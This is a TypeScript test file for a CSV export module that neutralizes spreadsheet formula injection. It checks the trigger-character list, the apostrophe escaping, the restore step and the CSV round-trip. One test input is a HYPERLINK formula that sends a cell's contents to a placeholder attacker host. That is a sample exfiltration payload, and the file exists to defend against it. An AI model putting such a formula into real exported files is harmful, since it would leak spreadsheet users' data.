import { Readable } from 'node:stream';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { readCsvRecords } from './csv-records.ts';
import { csvLine, formulaTriggers, neutralizeCell, restoreCell } from './csv.ts';

/** What a spreadsheet would run: OWASP's list, and the full-width forms. */
const triggers = ['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠'];

/** Strings of any characters, with trigger characters, apostrophes and CSV syntax made frequent. */
const anyText = fc.string({
  unit: fc.oneof(
    fc.constantFrom(...triggers, "'", '"', ',', '\n', ' '),
    fc.string({ unit: 'binary', minLength: 1, maxLength: 1 }),
  ),
  maxLength: 30,
});

async function recordsOf(text: string): Promise<string[][]> {
  const records: string[][] = [];
  for await (const record of readCsvRecords(Readable.from([Buffer.from(text)]), {
    maxRecordSize: 16 * 1024,
  })) {
    records.push(record.fields);
  }
  return records;
}

describe('spreadsheet-safe cells', () => {
  it('names exactly the trigger characters', () => {
    expect([...formulaTriggers].sort()).toEqual([...triggers].sort());
  });

  it.each([
    [
      '=HYPERLINK("http://evil.example/?x="&A1,"klik")',
      `'=HYPERLINK("http://evil.example/?x="&A1,"klik")`,
    ],
    ['+6281234567890', "'+6281234567890"],
    ['-1', "'-1"],
    ['@SUM(A1:A9)', "'@SUM(A1:A9)"],
    ['\tcmd', "'\tcmd"],
    ['\rcmd', "'\rcmd"],
    ['＝1+1', "'＝1+1"],
    ["'=x", "''=x"],
    ["'Budi", "''Budi"],
    ["'", "''"],
  ])('%j is written as %j and read back', (value, cell) => {
    expect(neutralizeCell(value)).toBe(cell);
    expect(restoreCell(cell)).toBe(value);
  });

  it.each(['Budi Santoso', 'polri-1', '014', '2026-01-02T03:04:05Z', '', 'a=b', ' =x', "O'Brien"])(
    '%j is written as it is',
    (value) => {
      expect(neutralizeCell(value)).toBe(value);
      expect(restoreCell(value)).toBe(value);
    },
  );

  it('reads an apostrophe before anything but a trigger or an apostrophe as the value’s own', () => {
    expect(restoreCell("'Budi")).toBe("'Budi");
    expect(restoreCell("'")).toBe("'");
    expect(restoreCell("'''=x")).toBe("''=x");
  });

  it('reads back every value it writes, and writes no cell a spreadsheet would run', () => {
    fc.assert(
      fc.property(anyText, (value) => {
        const cell = neutralizeCell(value);
        expect(restoreCell(cell)).toBe(value);
        expect(formulaTriggers.has(cell.charAt(0))).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });
});

describe('csv lines', () => {
  it('quotes only what needs quoting', () => {
    expect(csvLine(['a', 'b c', ''])).toBe('a,b c,\n');
    expect(csvLine(['a,b', 'say "hi"', 'two\nlines', ' padded'])).toBe(
      '"a,b","say ""hi""","two\nlines"," padded"\n',
    );
  });

  it('neutralizes before quoting, so the apostrophe is inside the quotes', () => {
    expect(csvLine(['=1+1', '-2,5', '@x "y"', '\tz'])).toBe(`'=1+1,"'-2,5","'@x ""y""",'\tz\n`);
  });

  it('round-trips any record through the reader', async () => {
    await fc.assert(
      fc.asyncProperty(
        fc.array(fc.array(anyText, { minLength: 2, maxLength: 6 }), { minLength: 1, maxLength: 5 }),
        async (records) => {
          const read = await recordsOf(records.map(csvLine).join(''));
          expect(read.map((fields) => fields.map(restoreCell))).toEqual(records);
          for (const cell of read.flat()) expect(formulaTriggers.has(cell.charAt(0))).toBe(false);
        },
      ),
      { numRuns: 500 },
    );
  });
});
